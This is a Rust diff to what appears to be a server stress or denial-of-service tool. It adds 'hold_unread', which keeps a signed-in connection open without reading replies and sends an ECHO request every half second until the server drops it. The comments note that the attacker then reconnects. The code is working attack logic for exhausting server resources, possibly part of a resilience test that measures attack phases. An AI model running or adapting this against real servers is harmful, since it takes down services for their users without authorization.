@@ -353,13 +353,32 @@ async fn unread(target: &Target, stream: Box<dyn Stream>, stop: &AtomicBool) {
             Ok(Ok(())) => {}
             Ok(Err(_)) => return,
             // The server stopped reading: hold on, unread, until it drops us.
-            Err(_) => {
-                until_closed(&mut client.stream, stop).await;
-                return;
-            }
+            Err(_) => break,
         }
     }
-    until_closed(&mut client.stream, stop).await;
+    hold_unread(&mut client, stop).await;
+}
+
+/// Keeps a signed-in connection without reading a byte of what it asked for, until the server
+/// drops it (a write fails: the attacker then reconnects) or the attack ends. An ECHO every half
+/// second finds out; once the server stops reading too, the write waits until the drop.
+async fn hold_unread(client: &mut raw::Raw<Box<dyn Stream>>, stop: &AtomicBool) {
+    while !stop.load(Ordering::Relaxed) {
+        tokio::time::sleep(Duration::from_millis(500)).await;
+        let mut out = client.request(Command::ECHO, 0);
+        out.u16(4).u16(0);
+        tokio::select! {
+            sent = client.send(out) => if sent.is_err() { return },
+            () = stopped(stop) => return,
+        }
+    }
+}
+
+/// Until the attack ends.
+async fn stopped(stop: &AtomicBool) {
+    while !stop.load(Ordering::Relaxed) {
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
 }
 
 async fn phase(target: &Arc<Target>, transport: Transport, attack: bool) -> Measured {
